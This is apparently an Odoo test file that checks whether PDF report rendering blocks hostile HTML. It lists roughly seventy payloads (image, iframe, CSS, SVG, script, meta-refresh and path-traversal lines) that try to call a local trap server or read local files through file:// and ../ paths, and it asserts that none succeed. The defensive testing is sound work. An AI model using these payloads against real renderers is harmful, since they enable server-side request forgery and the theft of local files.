"""Whatever is written in a document, it may load what Odoo serves to its reader and nothing else."""

# ruff: noqa: E501 -- an attack is easier to read on one line
import tempfile
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from odoo.tests import tagged

from .common import PdfCase, page_images, pages_text, png

SECRET = "KMSSECRET"
# {u}: address of the trap, {h}: its host and port, {f}: address of a file with the secret
ATTACKS = """
<img src="{u}/img"/>
<img src="//{h}/scheme-relative"/>
<img srcset="{u}/srcset 1x, {u}/srcset2 2x"/>
<img src="x" loading="lazy" longdesc="{u}/longdesc"/>
<picture><source srcset="{u}/source"/><img src="{u}/picture"/></picture>
<image src="{u}/image"/>
<input type="image" src="{u}/input"/>
<iframe src="{u}/iframe"></iframe>
<iframe src="{f}" width="600" height="300"></iframe>
<iframe srcdoc="&lt;img src='{u}/srcdoc'&gt;&lt;script&gt;fetch('{u}/srcdoc2')&lt;/script&gt;"></iframe>
<iframe src="javascript:location='{u}/iframe-js'"></iframe>
<iframe src="data:text/html,&lt;img src={u}/iframe-data&gt;"></iframe>
<iframe src="view-source:{f}"></iframe>
<frameset><frame src="{u}/frame"/></frameset>
<object data="{u}/object" type="text/html"></object>
<object data="{f}" type="text/plain"></object>
<embed src="{u}/embed" type="image/svg+xml"/>
<embed src="{f}" type="text/plain"/>
<applet archive="{u}/applet" code="x"></applet>
<portal src="{u}/portal"></portal>
<link rel="stylesheet" href="{u}/style.css"/>
<link rel="stylesheet" href="{f}"/>
<link rel="preload" as="image" href="{u}/preload"/>
<link rel="prefetch" href="{u}/prefetch"/>
<link rel="prerender" href="{u}/prerender"/>
<link rel="preconnect" href="{u}"/>
<link rel="dns-prefetch" href="{u}"/>
<link rel="modulepreload" href="{u}/module.js"/>
<link rel="icon" href="{u}/favicon.ico"/>
<link rel="manifest" href="{u}/manifest.json"/>
<link rel="import" href="{u}/import.html"/>
<style>@import url("{u}/import.css"); @import "{f}";</style>
<style>@font-face {{font-family: spy; src: url({u}/font.woff2);}} .spy {{font-family: spy;}}</style>
<p class="spy" style="background: url({u}/background)">spy</p>
<p style="background-image: image-set('{u}/image-set' 1x)">set</p>
<ul style="list-style-image: url({u}/list)"><li>one</li></ul>
<p style="cursor: url({u}/cursor), auto; content: url({u}/content)">c</p>
<p style="mask-image: url({u}/mask); border-image: url({u}/border) 1; filter: url({u}/f#f)">m</p>
<svg width="9" height="9"><image href="{u}/svg-image" width="9" height="9"/></svg>
<svg><use href="{u}/svg-use#x"></use></svg>
<svg><image xlink:href="{f}" width="9" height="9"/></svg>
<svg><foreignObject><iframe src="{u}/svg-foreign"></iframe></foreignObject></svg>
<svg><script href="{u}/svg-script"></script><style>@import url("{u}/svg-style");</style></svg>
<svg onload="fetch('{u}/svg-onload')"><animate onbegin="fetch('{u}/begin')"/></svg>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='{u}/svg-in-img'/%3E%3C/svg%3E"/>
<script src="{u}/script.js"></script>
<script>fetch("{u}/fetch"); new WebSocket("ws://{h}/ws"); navigator.sendBeacon("{u}/beacon");</script>
<script>document.body.innerHTML = "<img src='{u}/dom'/>"; new EventSource("{u}/sse");</script>
<script type="module">import "{u}/module.js"; new Worker("{u}/worker.js");</script>
<script>new RTCPeerConnection({{iceServers: [{{urls: "stun:{h}"}}]}}).createDataChannel("x");</script>
<img src="x" onerror="fetch('{u}/onerror')"/>
<details open="open" ontoggle="location='{u}/ontoggle'"><summary>s</summary></details>
<meta http-equiv="refresh" content="0;url={u}/refresh"/>
<meta http-equiv="refresh" content="0;url={f}"/>
<meta http-equiv="refresh" content="0;url=about:blank"/>
<meta content="0;url={u}/refresh2" name="&gt;" http-equiv="Refresh"/>
<base href="{u}/base/"/><img src="relative"/>
<form action="{u}/form" id="form"><input name="a" autofocus="autofocus"/></form>
<video src="{u}/video" poster="{u}/poster" autoplay="autoplay"></video>
<audio src="{u}/audio" autoplay="autoplay"></audio>
<video><track src="{u}/track" default="default"/></video>
<a href="{u}/ping" ping="{u}/ping2">link</a>
<body background="{u}/body"></body>
<table background="{u}/table"><tr><td background="{u}/cell">t</td></tr></table>
<bgsound src="{u}/bgsound"/>
<math><mtext href="{u}/math">m</mtext></math>
<img src="{f}"/>
<img src="/web/static/../../../../../../../../../../../../{p}"/>
<img src="/web/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/{p}"/>
<iframe src="/web/session/logout"></iframe>
<img src="chrome://version"/><iframe src="chrome://version"></iframe><img src="ftp://{h}/ftp"/>
<noscript><img src="{u}/noscript"/></noscript>
<template><img src="{u}/template"/></template>
""".strip().splitlines()


LAYOUT = '<html><head><base href="http://report.invalid"/></head><body>{}</body></html>'


class Trap(BaseHTTPRequestHandler):
    """A server that remembers who called."""

    def do_GET(self):
        self.server.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(png(77, 77))

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *arguments):
        """Say nothing."""


@tagged("post_install", "-at_install")
class TestHostile(PdfCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.trap = ThreadingHTTPServer(("127.0.0.1", 0), Trap)
        cls.trap.hits = []
        thread = threading.Thread(target=cls.trap.serve_forever)
        thread.start()
        cls.addClassCleanup(thread.join)
        cls.addClassCleanup(cls.trap.server_close)
        cls.addClassCleanup(cls.trap.shutdown)
        secret = cls.enterClassContext(tempfile.NamedTemporaryFile(suffix=".txt"))
        secret.write(SECRET.encode())
        secret.flush()
        host = f"127.0.0.1:{cls.trap.server_port}"
        cls.attacks = [
            line.format(u=f"http://{host}", h=host, f=f"file://{secret.name}", p=secret.name[1:])
            for line in ATTACKS
        ]
        cls.picture = cls.env["ir.attachment"].create(
            {"name": "i.png", "raw": png(31, 17), "public": True}
        )

    def print_html(self, html):
        # past the sanitizer: the engine must not depend on it
        self.partners.flush_recordset()
        self.env.cr.execute(
            "UPDATE res_partner SET comment = %s WHERE id = %s",
            [f"<p>hostile</p>{html}", self.partners[0].id],
        )
        self.partners.invalidate_recordset()
        return self.print_partners(f"""
            <p>before</p>
            <div t-out="o.comment"/>
            <p>after</p><img src="/web/image/{self.picture.id}"/>""")

    def assert_harmless(self, content):
        text = "".join(pages_text(content))
        self.assertEqual(self.trap.hits, [])
        self.assertNotIn(SECRET, text)
        self.assertNotIn("root:x:", text)
        self.assertIn("beforehostile", text)
        self.assertFalse(any((77, 77) in images for images in page_images(content)))
        return text

    def test_trap_works(self):
        urllib.request.urlopen(f"http://127.0.0.1:{self.trap.server_port}/x").close()
        self.assertEqual(self.trap.hits, ["/x"])
        self.trap.hits.clear()

    def test_each_attack(self):
        self.assertGreater(len(self.attacks), 60)
        picture = f'<img src="/web/image/{self.picture.id}"/>'
        for attack in self.attacks:
            with self.subTest(attack=attack):
                # without a layout around it, which would only take time
                content = self.reports._run_wkhtmltopdf(
                    [LAYOUT.format(f"<p>before</p>hostile{attack}<p>after</p>{picture}")]
                )
                text = self.assert_harmless(content)
                if "<frameset" not in attack:
                    self.assertIn("after", text, "the rest of the document is there")

    def test_all_attacks_at_once(self):
        self.assert_harmless(self.print_html("".join(self.attacks)))

    def test_pictures_of_our_own_beside_an_attack(self):
        content = self.print_html(self.attacks[0] + '<img src="/web/static/img/logo.png"/>')
        self.assert_harmless(content)
        images = page_images(content)[0]
        self.assertIn((31, 17), images)
        self.assertIn((180, 79), images, "the static file")

    def test_attack_in_header_and_footer(self):
        attack = "".join(line for line in self.attacks if "</" in line or "/>" in line)
        content = self.reports._run_wkhtmltopdf(
            [LAYOUT.format("beforehostile")],
            header=LAYOUT.format(attack),
            footer=LAYOUT.format(attack),
        )
        self.assert_harmless(content)
